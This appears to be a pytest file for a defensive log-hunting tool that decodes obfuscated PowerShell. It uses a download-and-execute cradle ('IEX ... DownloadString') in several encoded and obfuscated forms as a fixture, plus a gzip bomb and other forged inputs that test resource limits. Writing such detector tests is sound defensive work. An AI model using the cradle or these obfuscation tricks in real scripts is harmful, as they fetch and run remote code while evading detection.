"""Hidden layers: what comes out of real obfuscation, and that forged input costs neither time nor memory."""

import base64
import gzip
import time
import zlib

import pytest

from evtxhunt.decode import MOST_CHARACTERS, MOST_LAYERS, Layer, decoded_layers

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
WIDE = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def deflated(text: str) -> str:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(engine.compress(text.encode()) + engine.flush()).decode()


def zipped(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


@pytest.mark.parametrize(
    ("text", "layers"),
    [
        (f"powershell -enc {WIDE}", [Layer(1, "base64", CRADLE)]),
        (f"powershell -enc {WIDE.rstrip('=')}", [Layer(1, "base64", CRADLE)]),
        (f"$a='{base64.b64encode(CRADLE.encode()).decode()}'", [Layer(1, "base64", CRADLE)]),
        (f"FromBase64String('{deflated(CRADLE)}')", [Layer(1, "base64 deflate", CRADLE)]),
        (
            f"FromBase64String('{base64.b64encode(zlib.compress(CRADLE.encode())).decode()}')",
            [Layer(1, "base64 zlib", CRADLE)],
        ),
        (
            f"FromBase64String('{zipped('powershell -e ' + WIDE)}')",
            [Layer(1, "base64 gzip", f"powershell -e {WIDE}"), Layer(2, "base64", CRADLE)],
        ),
        ("&('I'+'E'+\"X\") $x", [Layer(1, "joined strings", "&('IEX') $x")]),
        ("('{2}{0}{1}' -f 'w-Obj','ect','Ne')", [Layer(1, "joined strings", "('New-Object')")]),
        ("$a = [char]105 + [char]0x65 + 'x'", [Layer(1, "joined strings", "$a = 'iex'")]),
        ("N`ew-Ob`ject", [Layer(1, "joined strings", "New-Object")]),
        ("-join [char[]](73,69,88,32,0x68,105,33,33)", [Layer(1, "numbers", "IEX hi!!")]),
        (f"('{CRADLE[::-1].replace(chr(39), chr(39) * 2)}'[-1..-70] -join '')", [Layer(1, "reversed", CRADLE)]),
        ("unchanged line\r\n'a'+'b'", [Layer(1, "joined strings", "'ab'")]),
    ],
)
def test_layers(text: str, layers: list[Layer]) -> None:
    assert decoded_layers(text) == layers


@pytest.mark.parametrize(
    "text",
    [
        "Get-ChildItem C:/Windows/System32/WindowsPowerShell | Where-Object { $_.Length -gt 10 }",
        "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
        "S-1-5-21-1004336348-1177238915-682003330-512",
        "",
        "$n = 1,2,3,4,5,6,7,8,9,10",
        'Write-Host "first`nsecond"',
    ],
)
def test_what_hides_nothing_has_no_layers(text: str) -> None:
    assert decoded_layers(text) == []


def test_a_program_is_told_by_size_and_hash() -> None:
    program = b"MZ\x90\x00" + bytes(range(256)) * 4
    (layer,) = decoded_layers(base64.b64encode(program).decode())
    assert layer.text.startswith("(Windows program (MZ), 1028 bytes, SHA-256 ")


@pytest.mark.parametrize(
    "text",
    {
        "base64": "A" * 3_000_000,
        "joins": "'a'+" * 500_000,
        "quotes": "'" * 1_000_000,
        "characters": "[char]1+" * 200_000,
        "numbers": "[char[]](" + "1," * 1_000_000,
        "formats": '"{0}" -f ' * 100_000,
        "format that grows": "'" + "{0}" * 1300 + "' -f '" + "a" * 4000 + "'",
        "backticks": "`a" * 500_000,
        "blanks": "'a'" + " " * 1_000_000 + "+",
        "reversed": "[-1..-9]" + "'" * 1_000_001,
        "gzip bomb": base64.b64encode(gzip.compress(b"a" * 100_000_000, mtime=0)).decode(),
        "nested": zipped(zipped(zipped(zipped(zipped(zipped(zipped(zipped("Get-Process")))))))),
        "many": " ".join(base64.b64encode(f"hello number {n} world".encode()).decode() for n in range(30_000)),
    }.values(),
)
def test_forged_text_costs_little(text: str) -> None:
    started = time.process_time()
    layers = decoded_layers(text)
    assert time.process_time() - started < 20  # a runaway pattern takes hours; this takes a tenth of a second
    assert len(layers) <= MOST_LAYERS
    assert all(len(layer.text) <= MOST_CHARACTERS + 100 for layer in layers)
    assert sum(len(layer.text) for layer in layers) <= 5 * MOST_CHARACTERS
